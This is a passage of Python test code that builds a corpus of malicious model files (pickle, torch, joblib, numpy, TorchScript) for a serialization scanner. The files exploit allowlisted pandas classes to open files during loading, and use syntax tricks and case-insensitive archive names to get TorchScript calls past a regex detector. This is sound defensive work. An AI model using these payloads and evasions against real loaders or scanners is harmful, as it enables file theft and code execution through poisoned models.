    """A TorchScript archive written member by member, as torch.jit.save lays it out; ``call`` is how the code
    spells the file-mapping call and ``code_name`` where the source lies (torch's zip reader matches names without
    regard to case)."""
    data_pkl = b"\x80\x02c__torch__\nM\nq\x00)\x81K\x01\x88\x86q\x01bq\x02."
    return _zip(
        {
            "archive/data.pkl": data_pkl,
            code_name: _TS_CODE.replace(_TS_CALL, call).encode(),
            "archive/constants.pkl": b"\x80\x02).",
            "archive/version": b"3\n",
            "archive/byteorder": b"little",
        }
    )


def _round3() -> dict[str, tuple[int, str, str, Callable[[], bytes]]]:
    tz_dtype = functools.partial(_call, "pandas", "DatetimeTZDtype", "ns", _TZ)
    paren = "(torch.from_file)" + _TS_CALL.removeprefix("torch.from_file")
    backslash = "torch.from_file \\\n      " + _TS_CALL.removeprefix("torch.from_file")
    upper_ext = "archive/code/__torch__.PY"
    return {
        "r3.pandas-tz-dtype-dateutil-path.pkl": (1, "pickle", "allowlisted class opens a file", tz_dtype),
        "r3.pandas-tz-dtype-from-string.pkl": (
            1,
            "pickle",
            "allowlisted class opens a file",
            lambda: _call("pandas", "DatetimeTZDtype", _TZ_DTYPE),
        ),
        "r3.pandas-series-tz-dtype-string.pkl": (
            1,
            "pickle",
            "allowlisted class opens a file",
            lambda: _call("pandas", "Series", None, None, _TZ_DTYPE),
        ),
        "r3.pandas-index-tz-dtype-string.pkl": (
            1,
            "pickle",
            "allowlisted class opens a file",
            lambda: _call("pandas", "Index", [], _TZ_DTYPE),
        ),
        "r3.pandas-datetimeindex-tz.pkl": (
            1,
            "pickle",
            "allowlisted class opens a file",
            lambda: _call("pandas", "DatetimeIndex", [], None, _TZ),
        ),
        "r3.pandas-new-datetimeindex-tz.pkl": (
            1,
            "pickle",
            "allowlisted class opens a file",
            lambda: _call(
                "pandas.core.indexes.datetimes",
                "_new_DatetimeIndex",
                _Global("pandas", "DatetimeIndex"),
                {"data": None, "tz": _TZ, "freq": None},
            ),
        ),
        "r3.pandas-dataframe-tz-dtype-string.pkl": (
            1,
            "pickle",
            "allowlisted class opens a file",
            lambda: _call("pandas", "DataFrame", None, None, None, _TZ_DTYPE),
        ),
        "r3.pandas-tz-dtype-torch-zip.pt": (
            1,
            "torch",
            "allowlisted class opens a file",
            lambda: _torch_zip_with(tz_dtype()),
        ),
        "r3.pandas-tz-dtype-legacy-torch.pt": (
            1,
            "torch",
            "allowlisted class opens a file",
            lambda: _legacy_torch(4, tz_dtype()),
        ),
        "r3.pandas-tz-dtype-joblib.joblib": (1, "joblib", "allowlisted class opens a file", tz_dtype),
        "r3.pandas-tz-dtype-npy-object.npy": (
            1,
            "numpy",
            "allowlisted class opens a file",
            lambda: _npy("'O'", tz_dtype()),
        ),
        "r3.torchscript-parenthesised-callee.pt": (
            3,
            "torchscript",
            "TorchScript code the regex misses",
            lambda: _torchscript(paren),
        ),
        "r3.torchscript-line-continuation.pt": (
            3,
            "torchscript",
            "TorchScript code the regex misses",
            lambda: _torchscript(backslash),
        ),
        "r3.torchscript-uppercase-code-suffix.pt": (
            2,
            "torchscript",
            "TorchScript member name matched without case",
            lambda: _torchscript(code_name=upper_ext),
        ),
        "r3.torchscript-parenthesised-torch-load.pt": (
            3,
            "torch",
            "TorchScript code the regex misses",
            lambda: _torchscript(paren),
        ),
        "r3.torchscript-uppercase-code-suffix-torch-load.pt": (
            2,
            "torch",
            "TorchScript member name matched without case",
            lambda: _torchscript(code_name=upper_ext),
        ),
    }


def write_attack_corpus(root: Path) -> list[AttackEntry]:
    """Write every attack file under ``root`` (created if needed); the entries, in a stable order."""
    root.mkdir(parents=True, exist_ok=True)
    entries: list[AttackEntry] = []
    for klass, table in ((1, _class1()), (2, _class2()), (3, _class3())):
        for name, (loader, family, build) in table.items():
            (root / name).write_bytes(build())
            entries.append(AttackEntry(name=name, loader=loader, family=family, klass=klass))
    for name, (klass, loader, family, build) in (*_round2().items(), *_round3().items()):
        (root / name).write_bytes(build())
        entries.append(AttackEntry(name=name, loader=loader, family=family, klass=klass))
    return entries
